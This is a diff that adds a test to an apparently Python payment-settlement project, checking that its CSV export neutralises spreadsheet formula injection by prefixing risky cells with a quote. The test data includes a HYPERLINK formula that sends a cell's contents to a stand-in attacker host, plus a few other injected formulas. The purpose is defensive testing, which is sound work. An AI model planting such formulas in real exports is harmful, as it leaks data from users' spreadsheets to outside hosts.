@@ -3,17 +3,21 @@ real camt.054.001.08 notification has, adding up to the settlement."""
 
 from __future__ import annotations
 
+import csv
+import io
 import xml.etree.ElementTree as ET
 from datetime import UTC, datetime
 from decimal import Decimal
 from pathlib import Path
 
 from defusedxml import ElementTree as SafeET
+from sqlalchemy import text
 from sqlalchemy.ext.asyncio import AsyncEngine
 
 from tests.test_settlement import DAY, account, group, settle  # noqa: F401 (the fixture)
 from utilipay.clock import FrozenClock
-from utilipay.settlement import files, service
+from utilipay.common import spreadsheet
+from utilipay.settlement import config, files, service
 from utilipay.settlement.config import Mode
 
 CAMT = Path(__file__).parent / "data" / "recon"  # copies of ../shared/realdata/camt
@@ -55,6 +59,42 @@ async def test_the_csv_has_a_line_per_branch_and_the_total(
         f"SZWATER,2026-11-22,TOTAL,深圳水务集团,250.50,2,0.00,250.50,0.00,2.51,247.99,"
         f"0.00,0.00,{head}\n"
     )
+
+
+async def test_names_that_a_spreadsheet_would_run_are_written_as_text_and_amounts_as_numbers(
+    engine: AsyncEngine,
+    clock: FrozenClock,
+    group: None,  # noqa: F811
+) -> None:
+    """OWASP CSV injection: a free-text cell starting = + - @ gets a leading quote; a
+    negative amount is a number, not a formula, and stays as it is."""
+    async with engine.begin() as conn:
+        await config.set_account(
+            conn, clock, "SZWATER", account_no="62223892389554", mode=Mode.GROUP,
+            account_name='=HYPERLINK("http://evil.example/?x="&A1,"查看")', bank="+SUM(1,2)",
+            actor="test",
+        )  # fmt: skip
+        await conn.execute(
+            text("UPDATE billers SET name = :n WHERE code = 'SZWATER_NS'"), {"n": "@SUM(A1:A9)"}
+        )
+    assert (await settle(engine, clock, biller="SZWATER"))["SZWATER"].status == "SETTLED"
+    async with engine.connect() as conn:
+        settlement = await service.one_settlement(conn, DAY, "SZWATER")
+    settlement["lines"][1]["net"] = -1234  # more refunded and charged than taken in
+    rows = list(csv.reader(io.StringIO(files.to_csv(settlement).decode())))
+    header, lines = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+    assert header == list(files.CSV_COLUMNS)
+    assert {line["account_name"] for line in lines} == {
+        """'=HYPERLINK("http://evil.example/?x="&A1,"查看")"""
+    }
+    assert {line["bank"] for line in lines} == {"'+SUM(1,2)"}
+    assert [line["branch_name"] for line in lines] == ["深圳水务福田分公司", "'@SUM(A1:A9)",
+                                                      "深圳水务集团"]  # fmt: skip
+    assert [line["net"] for line in lines] == ["198.00", "-12.34", "247.99"]
+    assert spreadsheet.text_cell("-12.34") == "'-12.34"  # a number that came as text is text
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet.text_cell(f"{start}1+1").startswith("'")
+    assert spreadsheet.text_cell("a=1") == "a=1"
 
 
 async def test_the_xml_is_a_camt054_notification_that_adds_up(
